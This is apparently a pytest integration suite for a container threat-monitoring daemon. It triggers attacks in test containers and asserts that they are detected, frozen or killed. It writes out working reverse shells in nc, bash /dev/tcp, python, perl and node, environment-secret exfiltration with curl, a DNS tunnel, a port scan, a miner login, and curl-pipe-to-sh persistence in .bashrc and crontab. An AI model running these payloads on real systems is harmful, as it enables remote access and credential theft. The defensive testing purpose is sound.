"""A wider corpus against the real daemon: more reverse-shell families, secrets sent to a
remote host, DNS tunnelling through a resolver of our own, port scans, mining-pool ports,
persistence, and benign look-alikes that must stay below HIGH.

Same harness and network rules as test_monitor.py: every target is the bridge address
(listeners started here) or the network namespace that module's fixture attaches to coibr0
(10.199.0.250, where this module runs a small DNS responder).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from tests.integration.test_monitor import (
    BEHAVIOURAL,
    GATEWAY,
    PRIVATE_HOST,
    Listener,
    Monitor,
    b64,
    mon,
    run_file,
    wait_until,
)

__all__ = ["mon"]  # the module-scoped daemon fixture, shared harness

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")

SERIOUS = ("high", "critical")


def since(monitor: Monitor, name: str, start: int) -> list[dict[str, Any]]:
    return monitor.events.threats(name)[start:]


# --------------------------------------------------------------------------- reverse shells
NODE_SHELL = """const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", ["-i"]);
const c = new net.Socket();
c.connect({port}, "{host}", () => {{ c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); }});
"""


def variant(kind: str, port: int) -> str:
    host = GATEWAY
    if kind == "busybox-nc-e":
        return f"busybox nc {host} {port} -e /bin/sh"
    if kind == "renamed-nc-e":
        inner = f"/tmp/.cache/nc {host} {port} -e /tmp/.cache/kworker"
        return (
            "mkdir -p /tmp/.cache; cp /bin/busybox /tmp/.cache/nc; "
            f"cp /bin/bash /tmp/.cache/kworker; echo {b64(inner)} | base64 -d | sh"
        )
    if kind == "mkfifo-busybox-nc":
        return (
            "rm -f /tmp/f; mkfifo /tmp/f; "
            f"cat /tmp/f | /bin/sh -i 2>&1 | busybox nc {host} {port} > /tmp/f"
        )
    if kind == "exec-fd-while-read":
        return f"exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done"
    if kind == "python-c-pty":
        return (
            f'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
            '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\''
        )
    if kind == "perl-e":
        return (
            f'perl -e \'use Socket;$i="{host}";$p={port};socket(S,PF_INET,SOCK_STREAM,'
            'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
            'open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\''
        )
    if kind == "node-file":
        return run_file("/tmp/server.js", NODE_SHELL.format(host=host, port=port), "node")
    raise AssertionError(kind)


@pytest.mark.parametrize(
    "kind",
    [
        "busybox-nc-e",
        "renamed-nc-e",
        "mkfifo-busybox-nc",
        "exec-fd-while-read",
        "python-c-pty",
        "perl-e",
        "node-file",
    ],
)
def test_reverse_shell_variants_are_killed(mon: Monitor, kind: str) -> None:
    name = mon.container()
    listener = Listener()
    try:
        mon.trigger(name, variant(kind, listener.port))
        record = mon.first_critical(name)
        assert record["category"] == "process" and record["action"] == "killed", record
        if kind in ("renamed-nc-e", "node-file"):  # nothing in the command line says "shell"
            assert record["rule_id"] in BEHAVIOURAL | {"proc.netcat-exec"}, record
        mon.assert_status(name, "Gone")
    finally:
        listener.close()


# --------------------------------------------------------------------------- secrets out
@pytest.mark.parametrize(
    "how",
    ["pipe-to-curl", "stdin-shell", "script-file", "python-environ"],
)
def test_environment_sent_to_a_remote_host_freezes(mon: Monitor, how: str) -> None:
    name = mon.container()
    sink = Listener(sink=True)
    url = f"http://{GATEWAY}:{sink.port}/collect"
    try:
        if how == "pipe-to-curl":
            mon.trigger(
                name, f"export AWS_SECRET_ACCESS_KEY=abc; env | curl -s --data-binary @- {url}"
            )
        elif how == "stdin-shell":
            # commands read by a shell from its stdin: no script to read, the stages of the
            # pipeline are joined through their pipes
            typed = f"env | gzip | curl -s --data-binary @- {url}\nsleep 20\n"
            mon.trigger(name, f"echo {b64(typed)} | base64 -d | bash")
        elif how == "script-file":
            # the shell's command line shows only the file; the daemon reads the script
            body = f"#!/bin/sh\nprintenv > /tmp/.e\ncurl -s -T /tmp/.e {url}\nsleep 20\n"
            mon.trigger(name, f"echo {b64(body)} | base64 -d > /tmp/sync.sh; sh /tmp/sync.sh")
        else:
            code = (
                "import os, urllib.request; urllib.request.urlopen("
                f"'{url}', data=str(dict(os.environ)).encode(), timeout=30)"
            )
            mon.trigger(name, f'python3 -c "{code}"')
        record = mon.threat(name, {"exfil.secrets-to-network"})
        assert record["level"] == "high" and record["action"] == "paused", record
        assert record["category"] == "credential_access"
        mon.assert_status(name, "Frozen")
    finally:
        sink.close()


# --------------------------------------------------------------------------- DNS tunnel
DNS_SERVER = """import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("{ip}", 53))
while True:
    data, peer = s.recvfrom(512)
    if len(data) < 12:
        continue
    # NXDOMAIN for everything: enough for a client to move on
    flags = struct.pack(">H", 0x8183)
    s.sendto(data[:2] + flags + data[4:6] + b"\\0\\0\\0\\0\\0\\0" + data[12:], peer)
"""
TUNNEL = """import base64, os, random, socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
for i in range(45):
    label = base64.b32encode(os.urandom(13)).decode().strip("=").lower()  # 21 chars
    msg = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
    for part in (label, "d", "tunnel", "test"):
        msg += bytes([len(part)]) + part.encode()
    s.sendto(msg + b"\\0" + struct.pack(">HH", 16, 1), ("{server}", 53))
    try:
        s.recv(512)
    except OSError:
        pass
time.sleep(30)
"""


@pytest.fixture
def dns_server(mon: Monitor) -> Iterator[str]:
    """A resolver of our own in the test netns on the bridge (no upstream, answers NXDOMAIN)."""
    ns = mon.netns
    proc = subprocess.Popen(
        ["ip", "netns", "exec", ns, sys.executable, "-c", DNS_SERVER.format(ip=PRIVATE_HOST)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        listening = f"{PRIVATE_HOST}:53"
        wait_until(
            lambda: (
                listening
                in subprocess.run(
                    ["ip", "netns", "exec", ns, "ss", "-lun"], capture_output=True, text=True
                ).stdout
            ),
            10,
            "the DNS responder",
        )
        yield PRIVATE_HOST
    finally:
        proc.kill()
        proc.wait()


def test_dns_tunnel_with_short_labels_freezes(mon: Monitor, dns_server: str) -> None:
    name = mon.container()
    route = mon.sh(name, f"ip route get {dns_server}")
    assert "via" not in route and "dev eth0" in route  # on-link: stays on our bridge
    mon.trigger(name, run_file("/tmp/t.py", TUNNEL.format(server=dns_server), "python3"))
    record = mon.threat(name, {"dns.tunnel-volume"})
    assert record["level"] == "high" and record["action"] == "paused"
    assert record["evidence"]["dns"]["server"] == dns_server
    mon.threat(name, {"dns.nonstandard-server"})
    mon.assert_status(name, "Frozen")


# --------------------------------------------------------------------------- scans, miners
SCAN = """import socket, time
for port in range(20000, 20040):
    s = socket.socket()
    s.settimeout(0.2)
    try:
        s.connect(("{host}", port))
    except OSError:
        pass
    s.close()
time.sleep(30)
"""


def test_port_scan_of_the_bridge_freezes(mon: Monitor) -> None:
    name = mon.container()
    mon.trigger(name, run_file("/tmp/probe.py", SCAN.format(host=GATEWAY), "python3"))
    record = mon.threat(name, {"net.port-scan"})
    assert record["level"] == "high" and record["action"] == "paused"
    assert record["evidence"]["network"]["remote_host"] == GATEWAY
    mon.assert_status(name, "Frozen")


def test_mining_pool_port_freezes(mon: Monitor) -> None:
    name = mon.container()
    pool = Listener(3333)
    try:
        code = (
            f"import socket, time; s = socket.create_connection(('{GATEWAY}', 3333)); "
            's.sendall(b\'{"method": "login"}\\n\'); time.sleep(30)'
        )
        mon.trigger(name, f'python3 -c "{code}"')
        record = mon.threat(name, {"net.miner-port"})
        assert record["level"] == "high" and record["action"] == "paused"
        mon.assert_status(name, "Frozen")
    finally:
        pool.close()


def test_persistence_in_a_shell_startup_file_freezes(mon: Monitor) -> None:
    name = mon.container()
    mon.trigger(
        name,
        f"echo 'curl -s http://{GATEWAY}:9/u.sh | sh' >> /root/.bashrc; "
        "echo '* * * * * /tmp/.u' | busybox crontab -; sleep 30",
    )
    # seen by the command-line rules and by the sensitive-file watcher: the first pauses
    record = mon.threat(name, {"persist.shell-rc", "file.startup-write", "file.cron-write"})
    assert record["level"] == "high" and record["action"] == "paused"
    assert record["category"] == "persistence"
    mon.assert_status(name, "Frozen")


# --------------------------------------------------------------------------- look-alikes
LOOK_ALIKES = """set -e
cd /root
# wait-for-a-service loops, against a port that answers
until (echo > /dev/tcp/{gw}/{port}) 2>/dev/null; do sleep 0.1; done
timeout 2 bash -c '</dev/tcp/{gw}/{port}' && echo reachable
# environment reads that stay local
env | grep -c PATH > /dev/null; printenv HOME > /dev/null
python3 -c "import os; print(os.environ.get('HOME'))" > /dev/null
node -e "console.log(Object.keys(process.env).length)" > /dev/null
# a fifo in a build pipeline
rm -f /tmp/build.fifo; mkfifo /tmp/build.fifo
(gzip -c < /tmp/build.fifo > /tmp/out.gz) & seq 100000 > /tmp/build.fifo; wait
# the same service on a couple of ports: not a scan
for p in {port} {port} {port}; do curl -s -m 2 -o /dev/null http://{gw}:$p/ || true; done
# an allowed upload of a build artefact (not a secret)
head -c 300000 /dev/urandom > /tmp/dist.tgz
curl -s -m 5 -T /tmp/dist.tgz http://{gw}:{port}/upload -o /dev/null || true
grep -rn "nc -e\\|/dev/tcp\\|stratum+tcp" /etc/ > /dev/null || true
sleep 1
echo done
"""


def test_benign_look_alikes_stay_below_high(mon: Monitor) -> None:
    name = mon.container()
    service = Listener(sink=True)
    start = len(mon.events.threats(name))
    try:
        script = LOOK_ALIKES.format(gw=GATEWAY, port=service.port)
        output = mon.sh(name, script, timeout=120)
        assert output.strip().endswith("done")
        # the probe of the service is visible (WARNING), proving these commands were judged
        probe = mon.threat(name, {"net.dev-tcp-probe"})
        assert probe["level"] == "warning"
        # an exec after the workload: once its event is in, everything before it was judged
        mon.trigger(name, "echo ZWNobyBoaQo= | base64 -d | sh; sleep 30")
        mon.threat(name, {"proc.decode-to-shell"})
        serious = [t for t in since(mon, name, start) if t["level"] in SERIOUS]
        assert serious == [], serious
        assert mon.incus.status(name) == "Running"
    finally:
        service.close()


# --------------------------------------------------------------------------- environment scans
ENV_SCANS = """set -e
mkdir -p /root/.config/tool && echo 'oauth_token: gho_canary' > /root/.config/tool/hosts.yml
printenv HOME > /dev/null
python3 -c 'import os; print(dict(os.environ))' > /dev/null
grep -ri token ~/.config > /dev/null
echo done
"""


def test_environment_dump_and_secret_search_are_warned(mon: Monitor) -> None:
    """A python3 environment dump and a keyword search of ~/.config reach the audit log at
    WARNING (judged from the execs themselves, or from the script that ran them); `printenv
    HOME`, run before them, does not."""
    name = mon.container()
    start = len(mon.events.threats(name))
    assert mon.sh(name, ENV_SCANS).strip().endswith("done")

    def by(rule: str, program: str, line: str) -> dict[str, Any]:
        """The exec's own record, or the one of the shell whose script ran that line: a
        command living a millisecond (this grep of a small folder) can be gone before its
        command line is read on a loaded machine, and the script naming it is judged too."""
        return mon.events.wait(
            lambda m: (
                m.get("type") == "threat"
                and m.get("container") == name
                and m.get("rule_id") == rule
                and (
                    str(m["evidence"]["process"]["command"]).startswith(program)
                    or f"\n{line}" in str(m["evidence"]["process"]["command"])
                )
            ),
            20,
            f"{rule} by {program}",
        )

    dump = by("cred.env-dump", "python3 -c", "python3 -c 'import os; print(dict(os.environ))'")
    search = by("cred.secret-search", "grep -ri token /root/.config", "grep -ri token ~/.config")
    audit = [json.loads(x) for x in (mon.home / "audit" / f"{name}.jsonl").read_text().splitlines()]
    for record in (dump, search):
        assert record["level"] == "warning" and record["action"] == "alerted", record
        assert any(r["id"] == record["id"] and r["level"] == "warning" for r in audit), record
    # the grep ran after printenv and its record is in: printenv was judged, and quiet
    found = since(mon, name, start)
    commands = [str(t["evidence"].get("process", {}).get("command", "")) for t in found]
    printenv = [c for c in commands if c.startswith("printenv")]
    assert printenv == [], printenv
    assert [t for t in found if t["level"] in SERIOUS] == []
    assert mon.incus.status(name) == "Running"
